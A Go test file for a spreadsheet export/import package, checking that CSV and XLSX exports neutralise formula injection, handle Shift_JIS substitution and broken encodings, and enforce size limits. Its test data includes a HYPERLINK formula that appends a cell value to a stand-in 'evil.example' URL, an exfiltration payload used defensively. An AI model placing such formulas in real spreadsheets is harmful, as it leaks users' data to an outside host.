package sheets_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/japanese"

	"kijun/internal/kijun"
	"kijun/internal/sheets"
	"kijun/internal/sheets/sheetstest"
)

// formulaLike are texts a spreadsheet program would run as formulas, and
// texts that look like the escape of one.
var formulaLike = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"詳細")`, "+81-78-331-8181", "-1+1", "@SUM(A1:A2)",
	"\t=1+1", "\r=1+1", "'=already quoted", "''=twice", "'plain quote", "普通の文字", "", "a=b",
}

func TestEscapeFormula(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"'=1", "''=1"}, {"'x", "'x"}, {"x=1", "x=1"}, {"", ""}, {"'", "'"},
	} {
		if got := sheets.EscapeFormula(tc.in); got != tc.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	for _, s := range formulaLike {
		if got := sheets.UnescapeFormula(sheets.EscapeFormula(s)); got != s {
			t.Errorf("UnescapeFormula(EscapeFormula(%q)) = %q", s, got)
		}
	}
	// A file made elsewhere is read as it is written.
	for _, s := range []string{"=HYPERLINK(1)", "'x", "+1"} {
		if got := sheets.UnescapeFormula(s); got != s {
			t.Errorf("UnescapeFormula(%q) = %q, want it unchanged", s, got)
		}
	}
}

// writeCells writes a heading and one row a text in format.
func writeCells(t testing.TB, format string, texts []string) []byte {
	t.Helper()
	var b bytes.Buffer
	err := sheets.WriteRegister(&b, format, "台帳", []sheets.Column{{Heading: "番号"}, {Heading: "説明"}}, func(row func(...any) error) error {
		for i, s := range texts {
			if err := row(i-1, s); err != nil { // -1: a number is written as one, unquoted
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// Every CSV export quotes texts that begin like formulas, the workbook
// holds them as text cells, and each imports back to the texts written.
func TestExportFormulaInjection(t *testing.T) {
	for _, format := range []string{sheets.CSVUTF8, sheets.CSVSJIS, sheets.XLSX} {
		t.Run(format, func(t *testing.T) {
			data := writeCells(t, format, formulaLike)
			name := "台帳.csv"
			switch format {
			case sheets.XLSX:
				name = "台帳.xlsx"
				f, err := excelize.OpenReader(bytes.NewReader(data))
				if err != nil {
					t.Fatal(err)
				}
				defer f.Close()
				for i, s := range formulaLike {
					cell, _ := excelize.CoordinatesToCellName(2, i+2)
					formula, _ := f.GetCellFormula("台帳", cell)
					typ, _ := f.GetCellType("台帳", cell)
					if formula != "" || (s != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
						t.Errorf("%s (%q): formula %q, type %v; want a text cell", cell, s, formula, typ)
					}
				}
			case sheets.CSVSJIS:
				utf, err := japanese.ShiftJIS.NewDecoder().Bytes(data)
				if err != nil {
					t.Fatal(err)
				}
				checkQuoted(t, utf)
			default:
				checkQuoted(t, bytes.TrimPrefix(data, []byte("\xef\xbb\xbf")))
			}
			tb, err := sheets.Open(name, data, "台帳", testLimits)
			if err != nil {
				t.Fatal(err)
			}
			defer tb.Close()
			tb.Next() // the heading
			for i, want := range formulaLike {
				row, err := tb.Next()
				if err != nil {
					t.Fatalf("row %d: %v", i+2, err)
				}
				if len(row) < 2 {
					row = append(row, "", "")
				}
				if row[0] != strconv.Itoa(i-1) || row[1] != want {
					t.Errorf("row %d read back as %q, want [%d %q]", i+2, row, i-1, want)
				}
			}
		})
	}
}

// checkQuoted reads CSV text and checks that no cell begins like a formula
// unless it is a number written as one.
func checkQuoted(t *testing.T, text []byte) {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		if rec[0] != "-1" && strings.ContainsAny(rec[0][:1], "=+-@\t\r") {
			t.Errorf("number cell %q", rec[0])
		}
		if rec[1] != "" && strings.ContainsAny(rec[1][:1], "=+-@\t\r") {
			t.Errorf("CSV cell %q begins like a formula", rec[1])
		}
	}
}

// LibreOffice, opening an exported CSV, makes no formula of any cell.
// Skipped without LibreOffice unless CI is set.
func TestExportFormulaLibreOffice(t *testing.T) {
	convert := sheetstest.LibreOffice(t)
	data := writeCells(t, sheets.CSVUTF8, formulaLike[:5])
	f, err := excelize.OpenReader(bytes.NewReader(convert("台帳", string(bytes.TrimPrefix(data, []byte("\xef\xbb\xbf"))))))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for r := 2; r <= 6; r++ {
		cell, _ := excelize.CoordinatesToCellName(2, r)
		formula, _ := f.GetCellFormula("台帳", cell)
		v, _ := f.GetCellValue("台帳", cell)
		if formula != "" {
			t.Errorf("LibreOffice read %s as the formula %q (%q)", cell, formula, v)
		}
	}
}

// A Shift_JIS export writes 〓 for what Shift_JIS cannot hold, the
// characters Excel maps (− to －) as Excel does, and counts the cells
// changed, rather than fail for the whole register.
func TestShiftJISSubstitution(t *testing.T) {
	texts := []string{"吉野家の𠮷", "絵文字😀", "−5 度", "café", "普通の行", "～と〜"}
	var b bytes.Buffer
	out := &sheets.Counted{W: &b}
	err := sheets.WriteRegister(out, sheets.CSVSJIS, "台帳", []sheets.Column{{Heading: "番号"}, {Heading: "説明"}}, func(row func(...any) error) error {
		for i, s := range texts {
			if err := row(i, s); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatalf("export: %v", err)
	}
	if out.Substituted != 5 || !strings.Contains(out.First, "2 行目「説明」") {
		t.Errorf("counted %d cells, first %q; want 5, the first at row 2 説明", out.Substituted, out.First)
	}
	if n := out.Notice(); !strings.Contains(n, "5 件") || !strings.Contains(n, "〓") {
		t.Errorf("notice %q", n)
	}
	tb, err := sheets.Open("台帳.csv", b.Bytes(), "", testLimits)
	if err != nil {
		t.Fatal(err)
	}
	defer tb.Close()
	tb.Next()
	want := []string{"吉野家の〓", "絵文字〓", "－5 度", "caf〓", "普通の行", "～と～"}
	for i, w := range want {
		row, err := tb.Next()
		if err != nil || row[1] != w {
			t.Errorf("row %d: %q, %v; want %q", i+2, row, err, w)
		}
	}
}

// A Shift_JIS file with a broken character is refused at that row and
// column, never read as U+FFFD; so is a UTF-8 file with a broken one.
func TestBrokenText(t *testing.T) {
	enc := func(s string) []byte {
		b, err := japanese.ShiftJIS.NewEncoder().Bytes([]byte(s))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	cols := []sheets.Column{{Heading: "管理番号", Required: true}, {Heading: "名称", Required: true}}
	sjis := append(enc("管理番号,名称\nA-1,住民記録\nA-2,税務"), 0x81, 0x20) // a lead byte without its second
	sjis = append(sjis, enc("課\nA-3,福祉\n")...)
	utf := []byte("\xef\xbb\xbf管理番号,名称\nA-1,住民記録\nA-2,税務\xe8\xaa課\n")
	utfNoBOM := []byte("管理番号,名称\nA-1,住民基本台帳の記録\nA-2,税務\xe8\xaa課\nA-3,福祉保健の記録\n")
	for _, tc := range []struct {
		name, encoding string
		data           []byte
	}{{"Shift_JIS", "Shift_JIS", sjis}, {"UTF-8", "UTF-8", utf}, {"UTF-8 without a byte order mark", "UTF-8", utfNoBOM}} {
		t.Run(tc.name, func(t *testing.T) {
			var read []string
			_, err := sheets.ReadRegister("daicho.csv", tc.data, "", "台帳", testLimits, cols, func(c sheets.Cells) {
				read = append(read, c.Get("名称"))
			})
			var ie *kijun.ImportError
			if !errors.As(err, &ie) || len(ie.Errors) != 1 {
				t.Fatalf("got %v, want one row refused", err)
			}
			e := ie.Errors[0]
			if e.Row != 3 || e.Column != "名称" || !strings.Contains(e.Reason, tc.encoding) {
				t.Errorf("refused %+v; want row 3, column 名称, saying %s", e, tc.encoding)
			}
			for _, v := range read {
				if strings.ContainsRune(v, '\uFFFD') {
					t.Errorf("read %q", v)
				}
			}
		})
	}
}

// A CSV file of too many rows, or a row of too many fields, is refused
// before it is read; commas inside quotes are not fields.
func TestCSVLimits(t *testing.T) {
	lim := sheets.Limits{Size: 32 << 20, Rows: 100, Columns: 10}
	for _, tc := range []struct {
		name, data, want string
	}{
		{"many rows", strings.Repeat("a,b\n", 101), "行が 100 行を超えています"},
		{"many fields", "a,b\n" + strings.Repeat(",", 1_000_000) + "\n", "2 行目付近が 10 列を超えています"},
		{"one cell of 2 MB", "a,b\n\"" + strings.Repeat("あ", 700_000) + "\",b\n", "2 行目付近のセルが 1 MB を超えています"},
		{"quoted commas", "a,b\n\"" + strings.Repeat(",", 1000) + "\",b\n" + strings.Repeat("\n", 1000), ""},
		{"a file too large", strings.Repeat("a", 33<<20), "32 MB まで"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := readAll("daicho.csv", []byte(tc.data), lim)
			if tc.want == "" && err != nil {
				t.Errorf("got %v", err)
			}
			if tc.want != "" && (kijun.ErrorCode(err) != kijun.EINVALID || !strings.Contains(kijun.ErrorMessage(err), tc.want)) {
				t.Errorf("got %v, want an error saying %q", err, tc.want)
			}
		})
	}
}

// A workbook, a PDF or a picture named .txt is refused with one error
// naming the file, not a broken character in every row.
func TestFakeTextRefusedOnce(t *testing.T) {
	var zipped bytes.Buffer
	zw := zip.NewWriter(&zipped)
	w, _ := zw.Create("xl/workbook.xml")
	w.Write(bytes.Repeat([]byte("<workbook/>"), 100))
	zw.Close()
	for name, data := range map[string][]byte{
		"daicho.txt": zipped.Bytes(),
		"scan.csv":   append([]byte("%PDF-1.7\n"), bytes.Repeat([]byte{0x01, 0x02, 0x9c}, 300)...),
		"nul.txt":    []byte("管理番号,名称\nA-1,\x00\x00\x00\n"),
	} {
		_, err := sheets.Open(name, data, "", sheets.Limits{})
		if err == nil || !strings.Contains(err.Error(), "CSV（文字だけのファイル）ではありません") {
			t.Errorf("%s: %v, want one error saying it is not CSV", name, err)
		}
	}
	if tb, err := sheets.Open("ok.txt", []byte("管理番号\tタブ,名称\r\nA-1,住民記録\n"), "", sheets.Limits{}); err != nil {
		t.Errorf("a CSV named .txt: %v", err)
	} else {
		tb.Close()
	}
}
